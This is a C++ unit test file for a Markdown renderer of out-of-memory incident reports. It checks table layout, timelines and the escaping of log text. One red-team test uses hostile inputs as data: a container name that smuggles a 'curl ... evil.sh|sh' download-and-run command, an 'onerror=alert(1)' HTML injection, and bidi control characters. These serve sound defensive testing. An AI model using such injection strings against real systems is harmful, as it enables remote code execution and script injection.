// The Markdown incident report: title, verdict table, ledger table, timeline, evidence blocks,
// and escaping so log text cannot break tables or code fences.
#include <catch2/catch.hpp>

#include <string>
#include <vector>

#include "culprit/report/renderer.hpp"
#include "unit/report/sample_verdicts.hpp"
#include "unit/test_text.hpp"

namespace markdown_renderer_tests {

using namespace culprit::report;
namespace d = culprit::diagnose;

namespace {

using culprit::test::lines_of;
using culprit::test::has_line;
using culprit::test::contains;

// Cell separators of a table row: `|` not preceded by a backslash.
int unescaped_pipes(const std::string& row) {
  int n = 0;
  for (std::size_t i = 0; i < row.size(); ++i)
    if (row[i] == '|' && (i == 0 || row[i - 1] != '\\')) ++n;
  return n;
}

// Every table (a run of lines starting with `|`) has the same number of cells in each row.
void require_tables_well_formed(const std::string& md) {
  int expected = -1;
  for (const auto& line : lines_of(md)) {
    if (line.empty() || line[0] != '|') {
      expected = -1;
      continue;
    }
    INFO(line);
    if (expected < 0) expected = unescaped_pipes(line);
    else CHECK(unescaped_pipes(line) == expected);
  }
}

}  // namespace

TEST_CASE("markdown: CUDA OOM incident report", "[report]") {
  const std::string md = render(test::cuda_oom_foreign(), Format::markdown);
  const auto lines = lines_of(md);
  REQUIRE_FALSE(lines.empty());
  CHECK(lines[0] ==
        "# Incident: CUDA OOM on spark-b GPU 0 at 2026-04-09 00:47:13Z — pid 48211 "
        "VLLM::EngineCore (foreign)");
  require_tables_well_formed(md);

  // Verdict table.
  CHECK(has_line(md, "| Field | Value |"));
  CHECK(has_line(md, "| Verdict | CUDA OOM (`cuda_oom`) |"));
  CHECK(has_line(md, "| Confidence | high |"));
  CHECK(has_line(md, "| Culprit | pid 48211 `VLLM::EngineCore` on spark-b (foreign) |"));

  // The ledger table.
  CHECK(has_line(md, "## Memory budget (spark-b, GPU 0, unified memory)"));
  CHECK(has_line(md, "| Entry | Role | PID | Size | Bytes | Share of total |"));
  CHECK(has_line(md, "|---|---|--:|--:|--:|--:|"));
  CHECK(has_line(md, "| total | total |   | 119.70 GiB | 128527106048 |   |"));
  CHECK(has_line(md, "| **shortfall** | shortfall |   | 819.20 MiB | 858993664 |   |"));
  CHECK(has_line(md, "| foreign pid 48211 (VLLM::EngineCore) | foreign | 48211 | 84.00 GiB | 90194313216 | 70.2% |"));
  CHECK(has_line(md, "| job pid 51877 (python3) | job | 51877 | 30.00 GiB | 32212254720 | 25.1% |"));
  CHECK(contains(md, "```text\n119.70 GiB total = 1.20 GiB free + 30.00 GiB job"));

  // Timeline: root then echo, chronological.
  CHECK(has_line(md, "| Time (UTC) | Host | What |"));
  const auto root_row = md.find("| 2026-04-09T00:47:13.412Z | spark-b | **Root:** CUDA out of memory");
  const auto echo_row = md.find("| 2026-04-09T00:57:13.612Z | spark-a | Echo: NCCL watchdog timeout");
  CHECK(root_row != std::string::npos);
  CHECK(echo_row != std::string::npos);
  CHECK(root_row < echo_row);

  // Evidence: a `source:line` label, then the full line in a fenced block.
  CHECK(has_line(md, "**`spark-b/train-rank0.log:1184`** · spark-b · 2026-04-09T00:47:13.412Z"));
  CHECK(contains(md, "```text\n" + test::cuda_oom_foreign().evidence[0].text + "\n```\n"));

  // Lists.
  CHECK(has_line(md, "## Advice"));
  CHECK(has_line(md, "- Check `nvidia-smi` before starting a job on a shared GPU."));
  CHECK(has_line(md, "## Ruled out"));
  CHECK(has_line(md, "## Sources"));
  CHECK(has_line(md, "| `spark-b/nvidia-smi.txt` | spark-b (folder name) | nvidia\\_smi\\_table | 24 | 2533 | wall-clock stamps |"));
  CHECK(has_line(md, "## Skipped inputs"));
}

TEST_CASE("markdown: kernel OOM shows the victim apart from the culprit", "[report]") {
  const std::string md = render(test::kernel_oom_victim_not_hog(), Format::markdown);
  require_tables_well_formed(md);
  CHECK(lines_of(md)[0] ==
        "# Incident: Host kernel OOM on node-3 at 2026-03-02 14:05:09Z — pid 4242 python3 "
        "(job); killed: pid 5151 postgres");
  CHECK(has_line(md, "| Killed | pid 5151 `postgres` on node-3 |"));
  CHECK(has_line(md, "## Victim (killed, not the culprit)"));
  CHECK_FALSE(contains(md, "## Memory budget"));
  // The task table block keeps its lines inside one fence.
  CHECK(contains(md, "```text\n[  pid  ]   uid  tgid total_vm"));
  CHECK(contains(md, "\n[   5151]   113  5151  2369079  1711567  1711456      111         0  13783040        0"
                     "             0 postgres\n```\n"));
}

TEST_CASE("markdown: unknown verdict lists what was read", "[report]") {
  const std::string md = render(test::unknown_nothing(), Format::markdown);
  require_tables_well_formed(md);
  CHECK(lines_of(md)[0] == "# Incident: Unknown — no failure recognised in 2 sources (252 lines)");
  CHECK(has_line(md, "| Verdict | Unknown (`unknown`) |"));
  CHECK_FALSE(contains(md, "## Culprit"));
  CHECK_FALSE(contains(md, "## Timeline"));
  CHECK_FALSE(contains(md, "## Evidence"));
  CHECK(has_line(md, "| `<stdin>:213` | — | ps,app\\_log | 40 | 1900 | — |"));  // every format; the clock note
}

TEST_CASE("markdown: pipes, backticks and fences in log text are escaped", "[report]") {
  auto v = test::cuda_oom_foreign();
  v.echoes[0].title = "rank | 1 timed out";
  v.echoes[0].summary = "a|b ``c`` *d* <e>";
  v.sources[0].name = "weird|name`x`.log";
  v.sources[0].host = "host|x";
  v.sources[0].clock_note = "stamps | zones";
  v.culprit->name = "py|thon";
  d::Evidence fence;
  fence.source = "notes.md";
  fence.line = 3;
  fence.text = "before\n```\nnot the end\n````\nafter";
  v.evidence.push_back(fence);
  const std::string md = render(v, Format::markdown);
  require_tables_well_formed(md);
  CHECK(contains(md, "Echo: rank \\| 1 timed out — a\\|b "));
  CHECK(contains(md, "\\*d\\* \\<e\\>"));
  CHECK(has_line(md, "| ``weird\\|name`x`.log`` | host\\|x (folder name) | app\\_log | 1190 | 183402 | stamps \\| zones |"));
  CHECK(has_line(md, "| Culprit | pid 48211 `py\\|thon` on spark-b (foreign) |"));
  // The block is fenced with more backticks than any run inside it.
  CHECK(contains(md, "`````text\nbefore\n```\nnot the end\n````\nafter\n`````\n"));
}

TEST_CASE("markdown: rule prose keeps balanced code spans", "[report]") {
  auto v = test::kernel_oom_victim_not_hog();
  v.advice = {"Set `num_workers=2` and check `dmesg -T`", "unbalanced ` tick_here", "- not a sublist",
              "1. not a numbered list"};
  const std::string md = render(v, Format::markdown);
  CHECK(has_line(md, "- \\- not a sublist"));
  CHECK(has_line(md, "- 1\\. not a numbered list"));
  CHECK(has_line(md, "- Set `num_workers=2` and check `dmesg -T`"));
  CHECK(has_line(md, "- unbalanced \\` tick\\_here"));
}

// Issue 36 (redteam findings 5 and 31): code spans outside a table keep a `|` as it is (GFM
// reads `\|` only in a table cell), two backticks of a name are no empty code span, and
// invisible format characters are shown.
TEST_CASE("markdown: code spans outside tables, backtick pairs in names, bidi controls", "[report]") {
  auto v = test::cuda_oom_foreign();
  v.culprit->name = "py|thon";
  v.culprit->container = "vllm;curl${IFS}evil.sh|sh;#";
  v.culprit->why = "it runs in container a``![i](https://x/i.png)``b";
  v.advice = {"Stop it (`kill 48211` on spark-b)", "run `a|b` and `c`"};
  const std::string md = render(v, Format::markdown);
  require_tables_well_formed(md);
  CHECK(has_line(md, "- **Name:** `py|thon`"));
  CHECK(has_line(md, "- **Container:** `vllm;curl${IFS}evil.sh|sh;#`"));
  CHECK(contains(md, "container a\\`\\`!\\[i\\](https://x/i.png)\\`\\`b"));
  CHECK(has_line(md, "- run `a|b` and `c`"));
  CHECK(has_line(md, "| Culprit | pid 48211 `py\\|thon` on spark-b (foreign) |"));  // in a table: escaped
  v.culprit->name = "E\xe2\x80\xae<b>x</b>a\xe2\x80\x8b";
  const std::string bidi = render(v, Format::markdown);
  CHECK(contains(bidi, "`E<U+202E><b>x</b>a<U+200B>`"));
  CHECK_FALSE(contains(bidi, "\xe2\x80\xae"));
  CHECK(markdown_inline("a|b<img src=x onerror=alert(1)>![i](https://x)") ==
        "a\\|b\\<img src=x onerror=alert(1)\\>!\\[i\\](https://x)");
}

}  // namespace markdown_renderer_tests
